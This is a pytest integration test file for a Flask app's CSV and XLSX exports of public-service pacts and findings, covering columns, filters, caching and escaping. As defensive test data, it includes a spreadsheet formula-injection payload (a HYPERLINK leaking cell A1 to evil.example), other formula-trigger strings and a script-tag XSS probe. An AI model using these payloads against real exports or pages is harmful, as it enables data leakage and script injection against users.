"""CSV and XLSX exports of pacts and findings: public columns, filters, formulas made harmless."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from tests.integration.opendata.conftest import DEADLINE, SIGNED_ON, DataWorld, record
from tracker.findings.models import Finding
from tracker.opendata.exports import FINDING_FIELDS, PACT_FIELDS
from tracker.pacts import services as pact_services
from tracker.pacts.models import Pact

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


def read_csv(client: FlaskClient, url: str) -> tuple[list[str], list[dict[str, str]]]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode()), "no byte-order mark: Excel would garble the text"
    reader = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def read_xlsx(client: FlaskClient, url: str) -> list[tuple[object, ...]]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert int(response.headers["Content-Length"]) == len(response.get_data())
    book = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    return [tuple(r) for r in book.worksheets[0].iter_rows(values_only=True)]


def test_pact_csv_lists_each_pact_with_its_public_columns(
    client: FlaskClient, world: DataWorld
) -> None:
    header, rows = read_csv(client, "/data/pakta.csv")

    assert header == [f.name for f in PACT_FIELDS]
    assert [int(r["pact_id"]) for r in rows] == [world.pact.id, world.other.id]
    first = rows[0]
    assert first["regency_slug"] == "kab-data-x"
    assert first["signatory_name"] == "Ahmad Uji"
    assert first["signed_on"] == SIGNED_ON.isoformat()
    assert first["deadline_on"] == first["original_deadline_on"] == DEADLINE.isoformat()
    assert first["extensions"] == "0"
    # 25 March 2019 in WITA: 14 days before the deadline.
    assert first["status"] == "due_soon"
    assert (first["findings_total"], first["findings_closed"]) == ("2", "0")
    assert first["is_demo"] == "false"
    assert first["url"] == f"http://127.0.0.1:5000/pakta/{world.pact.id}"


def test_exports_stream_without_cookies_and_answer_304_to_a_current_etag(
    client: FlaskClient, world: DataWorld
) -> None:
    for url in ("/data/pakta.csv", "/data/temuan.csv", "/data/pakta.xlsx", "/data/temuan.xlsx"):
        first = client.get(url)
        assert first.status_code == 200
        assert "Set-Cookie" not in first.headers, url
        assert first.headers["ETag"]
        assert "public" in first.headers["Cache-Control"]
        if url.endswith(".csv"):
            assert first.is_streamed, "a CSV export is streamed, not built in memory"
        assert first.get_data()
        again = client.get(url, headers={"If-None-Match": first.headers["ETag"]})
        assert again.status_code == 304
        assert again.get_data() == b""


def test_a_head_request_gets_the_headers_and_leaves_no_file_open(
    client: FlaskClient, world: DataWorld
) -> None:
    for url in ("/data/pakta.xlsx", "/data/temuan.csv"):
        with client.head(url) as response:
            assert response.status_code == 200
            assert response.get_data() == b""
            assert "attachment" in response.headers["Content-Disposition"]


def test_a_change_gives_the_export_a_new_etag(client: FlaskClient, world: DataWorld) -> None:
    before = client.get("/data/pakta.csv").headers["ETag"]
    pact_services.extend_pact(
        world.session,
        actor=world.admin_x,
        pact_id=world.pact.id,
        new_deadline_on=DEADLINE + timedelta(days=30),
        reason="Menunggu anggaran perubahan",
        now=world.now,
    )
    world.session.commit()

    response = client.get("/data/pakta.csv", headers={"If-None-Match": before})

    assert response.status_code == 200
    row = next(
        r
        for r in csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig")))
        if r["pact_id"] == str(world.pact.id)
    )
    assert row["deadline_on"] == (DEADLINE + timedelta(days=30)).isoformat()
    assert row["original_deadline_on"] == DEADLINE.isoformat()
    assert row["extensions"] == "1"
    assert row["status"] == "on_track"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        pytest.param("regency=kab-data-x", ["pact"], id="regency"),
        pytest.param("regency=kab-data-y", ["other"], id="other-regency"),
        pytest.param("status=due_soon", ["pact"], id="status"),
        pytest.param("status=overdue", ["other"], id="status-overdue"),
        pytest.param("year=2018", ["other"], id="signing-year"),
        pytest.param("year=2019&regency=kab-data-y", [], id="year-and-regency"),
        pytest.param("status=withdrawn", [], id="none-withdrawn"),
    ],
)
def test_pact_exports_filter_like_the_pages(
    client: FlaskClient, world: DataWorld, query: str, expected: list[str]
) -> None:
    ids = [getattr(world, name).id for name in expected]

    _, rows = read_csv(client, f"/data/pakta.csv?{query}")
    sheet = read_xlsx(client, f"/data/pakta.xlsx?{query}")

    assert [int(r["pact_id"]) for r in rows] == ids
    assert [r[0] for r in sheet[1:]] == ids


def test_finding_exports_filter_by_regency_status_and_year(
    client: FlaskClient, session: Session, world: DataWorld
) -> None:
    header, rows = read_csv(client, "/data/temuan.csv")
    assert header == [f.name for f in FINDING_FIELDS]
    assert [r["title"] for r in rows] == [
        "Belum ada ramp",
        "SOP tidak dipajang",
        "Tidak ada pojok bermain anak",
    ]
    assert {r["status"] for r in rows} == {"open"}
    assert rows[0]["pact_id"] == str(world.pact.id)
    assert rows[0]["url"].endswith(f"/pakta/{world.pact.id}")

    finding = world.pact.findings[0]
    finding.status = finding.status.CLOSED
    finding.closed_at = datetime(2019, 3, 20, 17, 0, tzinfo=world.now.tzinfo)  # 21 March in WITA
    session.commit()

    _, closed = read_csv(client, "/data/temuan.csv?status=closed")
    assert [r["finding_id"] for r in closed] == [str(finding.id)]
    assert closed[0]["closed_on"] == "2019-03-21"
    _, in_y = read_csv(client, "/data/temuan.csv?regency=kab-data-y&year=2018")
    assert [r["title"] for r in in_y] == ["Tidak ada pojok bermain anak"]


def test_findings_not_covered_by_a_pact_are_not_exported(
    client: FlaskClient, session: Session, world: DataWorld
) -> None:
    session.add(
        Finding(
            agency_id=world.a.id,
            pact_id=None,
            category=world.pact.findings[0].category,
            title="Belum masuk pakta",
            created_at=world.now,
        )
    )
    session.commit()

    _, rows = read_csv(client, "/data/temuan.csv")

    assert "Belum masuk pakta" not in {r["title"] for r in rows}
    assert (
        len(rows)
        == session.execute(
            select(func.count(Finding.id)).where(Finding.pact_id.is_not(None))
        ).scalar_one()
    )


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        pytest.param("/data/pakta.csv?regency=atlantis", "atlantis", id="unknown-regency"),
        pytest.param("/data/pakta.xlsx?status=lost", "on_track", id="unknown-status"),
        pytest.param("/data/temuan.csv?status=overdue", "in_progress", id="pact-status-finding"),
        pytest.param("/data/temuan.xlsx?year=19", "1990", id="short-year"),
        pytest.param("/data/pakta.csv?year=dua-ribu", "2100", id="year-not-a-number"),
        pytest.param("/data/pakta.csv?year=²²²²", "1990", id="superscript-digits-csv"),
        pytest.param("/data/temuan.xlsx?year=²²²²", "1990", id="superscript-digits-xlsx"),
        pytest.param("/data/pakta.xlsx?year=٢٠١٩", "1990", id="arabic-indic-digits"),
    ],
)
def test_a_bad_filter_is_a_400_that_says_why(
    client: FlaskClient, world: DataWorld, url: str, reason: str
) -> None:
    response = client.get(url + "&lang=en" if "?" in url else url)

    assert response.status_code == 400
    assert reason in response.get_data(as_text=True)


def test_a_bad_filter_value_is_shown_escaped(client: FlaskClient, world: DataWorld) -> None:
    response = client.get("/data/temuan.csv?regency=<script>alert(1)</script>")

    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;" in page


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(
    client: FlaskClient, world: DataWorld
) -> None:
    evil = record(
        world.session,
        actor=world.admin_x,
        agency=world.a,
        now=world.now,
        signatory_name=EVIL,
        findings=("+SUM(1;2)", "@cmd", "-1+1", "Aman"),
    )

    _, pacts = read_csv(client, "/data/pakta.csv?regency=kab-data-x")
    row = next(r for r in pacts if r["pact_id"] == str(evil.id))
    assert row["signatory_name"] == "'" + EVIL
    assert row["findings_total"] == "4", "numbers stay numbers"
    _, findings = read_csv(client, f"/data/temuan.csv?regency=kab-data-x&year={SIGNED_ON.year}")
    titles = [r["title"] for r in findings if r["pact_id"] == str(evil.id)]
    assert titles == ["'+SUM(1;2)", "'@cmd", "'-1+1", "Aman"]

    sheet = read_xlsx(client, "/data/pakta.xlsx?regency=kab-data-x")
    header = sheet[0]
    xlsx_row = dict(zip(header, next(r for r in sheet[1:] if r[0] == evil.id), strict=True))
    assert xlsx_row["signatory_name"] == "'" + EVIL
    assert xlsx_row["pact_id"] == evil.id and isinstance(xlsx_row["pact_id"], int)
    assert xlsx_row["findings_total"] == 4
    assert isinstance(xlsx_row["signed_on"], datetime)
    assert xlsx_row["signed_on"].date() == SIGNED_ON, "a real date cell, not text"
    assert xlsx_row["is_demo"] is False


def test_xlsx_workbook_has_the_documented_columns_and_no_formula(
    client: FlaskClient, world: DataWorld
) -> None:
    response = client.get("/data/temuan.xlsx")
    book = load_workbook(io.BytesIO(response.get_data()))
    sheet = book.worksheets[0]

    assert sheet.title == "temuan"
    assert [c.value for c in sheet[1]] == [f.name for f in FINDING_FIELDS]
    assert sheet.max_row == 4
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert 'filename="temuan.xlsx"' in response.headers["Content-Disposition"]


def test_the_export_of_the_demo_data_has_every_pact(
    client: FlaskClient, session: Session, demo: object
) -> None:
    _, rows = read_csv(client, "/data/pakta.csv")
    sheet = read_xlsx(client, "/data/pakta.xlsx")

    total = session.execute(select(func.count(Pact.id))).scalar_one()
    assert len(rows) == len(sheet) - 1 == total
    ksb = [
        r for r in rows if r["regency_slug"] == "sumbawa-barat" and r["signed_on"] == "2019-01-08"
    ]
    assert len(ksb) == 7
    assert all(r["is_demo"] == "false" for r in ksb)
    assert any(r["is_demo"] == "true" for r in rows)
    assert date.fromisoformat(ksb[0]["deadline_on"]) == DEADLINE
